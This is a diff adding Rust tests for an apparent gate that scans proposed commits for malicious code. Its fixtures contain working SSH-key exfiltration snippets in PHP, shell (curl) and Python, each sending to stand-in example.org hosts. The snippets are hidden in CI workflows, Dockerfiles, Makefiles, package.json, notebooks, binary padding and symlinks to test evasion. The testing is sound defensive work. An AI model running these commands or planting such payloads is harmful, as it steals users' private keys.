@@ -382,3 +382,99 @@ fn a_force_push_is_checked_for_new_content_only() {
     let bad = alibi(&["gate", "again..proposal", path]);
     assert_eq!(bad.status.code(), Some(1), "{}", text(&bad.stdout));
 }
+
+/// Adds a commit by Ben on the branch `proposal` with these files, each with its mode.
+fn propose(folder: &Path, files: &[(&str, Vec<u8>, u32)]) {
+    let repo = git2::Repository::open_bare(folder).unwrap();
+    let parent = repo.find_reference("refs/heads/main").unwrap().peel_to_commit().unwrap();
+    let mut update = git2::build::TreeUpdateBuilder::new();
+    for (path, bytes, mode) in files {
+        let mode = match mode {
+            0o120_000 => git2::FileMode::Link,
+            _ => git2::FileMode::Blob,
+        };
+        update.upsert(*path, repo.blob(bytes).unwrap(), mode);
+    }
+    let tree = update.create_updated(&repo, &parent.tree().unwrap()).unwrap();
+    let when = git2::Time::new(1_704_708_000, 0);
+    let ben = git2::Signature::new("Ben Example", "ben@example.org", &when).unwrap();
+    let tree = repo.find_tree(tree).unwrap();
+    let commit = repo.commit(None, &ben, &ben, "Change", &tree, &[&parent]).unwrap();
+    repo.reference("refs/heads/proposal", commit, true, "").unwrap();
+}
+
+#[test]
+fn what_was_not_looked_at_fails_the_gate_and_no_disguise_passes_it() {
+    const FILE: u32 = 0o100_644;
+    let theft = THEFT.replace("\\n", "\n");
+    let php = "<?php $k = file_get_contents('/root/.ssh/id_rsa');\n$c = curl_init('https://c.example.org');\ncurl_setopt($c, CURLOPT_POSTFIELDS, $k);\ncurl_exec($c);\n";
+    let shell = "cat ~/.ssh/id_rsa | curl --data-binary @- https://collect.example.org";
+    let python = "import os, requests\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example.org', data=d)\n";
+    let match_of_a_rule = "fs.readFileSync(home + '/.ssh/id_rsa');\n";
+    let wide: Vec<u8> = theft.chars().flat_map(|c| u32::from(c).to_le_bytes()).collect();
+    let encoded: String =
+        (0..40_000).map(|n| format!("'aHR0cHM6Ly9leGFtcGxlLm9yZy8{n:08}AAAAAAAAAAAAAAAAAAAA',\n")).collect();
+    let cases: Vec<(&str, i32, &str, Vec<u8>)> = vec![
+        ("harmless", 0, "src/x.js", b"start(2);\n".to_vec()),
+        ("more matches than are kept", 3, "src/x.js", match_of_a_rule.repeat(250_000).into_bytes()),
+        ("behind many matches", 1, "src/x.js", format!("{}\n\n{theft}", match_of_a_rule.repeat(12_000)).into_bytes()),
+        ("more encoded text than is decoded", 3, "src/x.py", encoded.into_bytes()),
+        (
+            "a pointer in place of code",
+            3,
+            "src/x.js",
+            format!("version https://git-lfs.github.com/spec/v1\noid sha256:{:064}\nsize 12345\n", 1).into_bytes(),
+        ),
+        ("a binary head", 1, "src/x.php", [&b"\x89PNG\0\0\xff\xfe".repeat(300)[..], php.as_bytes()].concat()),
+        (
+            "a binary tail",
+            1,
+            "run.sh",
+            [format!("#!/bin/sh\n{shell}\nexit 0\n").as_bytes(), &[0, 1, 255].repeat(3000)].concat(),
+        ),
+        ("UTF-32", 1, "src/x.js", wide),
+        ("a script without an extension", 1, "deploy", format!("#!/bin/sh\n{shell}\n").into_bytes()),
+        ("a script with another extension", 1, "tool.conf", format!("#!/usr/bin/env python3\n{python}").into_bytes()),
+        ("tests that a pipeline runs", 1, "tests/conftest.py", python.into()),
+        ("a bundle", 1, "dist/index.js", format!("// DO NOT EDIT\n{theft}").into_bytes()),
+        ("vendored code", 1, "vendor/x/x.js", theft.clone().into_bytes()),
+        (
+            "a workflow",
+            1,
+            ".github/workflows/a.yml",
+            format!("on: push\njobs:\n  a:\n    steps:\n    - run: {shell}\n").into_bytes(),
+        ),
+        ("a pipeline of lists", 1, ".gitlab-ci.yml", format!("a:\n  script:\n  - {shell}\n").into_bytes()),
+        ("a container", 1, "compose.yaml", format!("services:\n  a:\n    command: [sh, -c, '{shell}']\n").into_bytes()),
+        ("an image", 1, "Dockerfile", format!("FROM a\nRUN set -e; \\\n  {shell}\n").into_bytes()),
+        ("a makefile", 1, "Makefile", format!("all:\n\t@{shell}\n").into_bytes()),
+        ("settings", 1, "tox.ini", format!("[testenv]\ncommands =\n  sh -c '{shell}'\n").into_bytes()),
+        (
+            "a manifest",
+            1,
+            "package.json",
+            format!("{{\"scripts\": {{\"test\": \"{}\"}}}}", shell.replace('c', "\\u0063")).into_bytes(),
+        ),
+        ("a page", 1, "public/index.php", php.into()),
+        (
+            "a notebook",
+            1,
+            "a.ipynb",
+            serde_json::json!({"cells": [{"cell_type": "code", "source": [format!("!{shell}\n")]}]})
+                .to_string()
+                .into_bytes(),
+        ),
+    ];
+    let folder = project("", "");
+    for (what, code, path, bytes) in cases {
+        propose(folder.path(), &[(path, bytes, FILE)]);
+        let out = gate(folder.path(), &[]);
+        assert_eq!(out.status.code(), Some(code), "{what}: {}{}", text(&out.stdout), text(&out.stderr));
+        assert!(code != 3 || text(&out.stderr).contains(path), "{what}: {}", text(&out.stderr));
+    }
+    let link = [("data/notes.txt", theft.into_bytes(), FILE), ("src/x.js", b"../data/notes.txt".to_vec(), 0o120_000)];
+    propose(folder.path(), &link);
+    let out = gate(folder.path(), &[]);
+    assert_eq!(out.status.code(), Some(1), "a link: {}", text(&out.stdout));
+    assert!(text(&out.stdout).contains("src/x.js"), "{}", text(&out.stdout));
+}
